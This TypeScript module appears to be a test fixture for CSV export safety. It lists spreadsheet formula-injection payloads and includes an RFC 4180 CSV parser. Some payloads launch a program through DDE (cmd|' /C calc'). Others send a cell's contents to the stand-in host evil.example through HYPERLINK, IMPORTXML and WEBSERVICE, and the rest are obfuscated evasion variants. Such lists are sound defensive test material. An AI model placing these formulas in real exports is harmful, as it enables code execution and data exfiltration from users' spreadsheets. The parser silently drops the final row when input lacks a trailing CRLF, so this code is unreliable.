/** Formula injections for spreadsheets. */
export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("https://evil.example/")',
  '  =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  "'=1+1",
  ' "\t@SUM(A1)',
  '\u00a0=1+1',
  '\uFEFF=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '+94 71 000 0000',
  "-2+3+cmd|' /C calc'!D2",
  '|calc',
  '%0A=1+1',
  '“=1+1”',
] as const;

/** Parses CSV (RFC 4180). */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const letters = text.replace(/^\uFEFF/, '');
  for (let at = 0; at < letters.length; at++) {
    const letter = letters[at] ?? '';
    if (quoted) {
      if (letter !== '"') cell += letter;
      else if (letters[at + 1] === '"') cell += letters[++at] ?? '';
      else quoted = false;
    } else if (letter === '"') quoted = true;
    else if (letter === ',') {
      row.push(cell);
      cell = '';
    } else if (letter === '\r' && letters[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at += 1;
    } else cell += letter;
  }
  return rows;
}
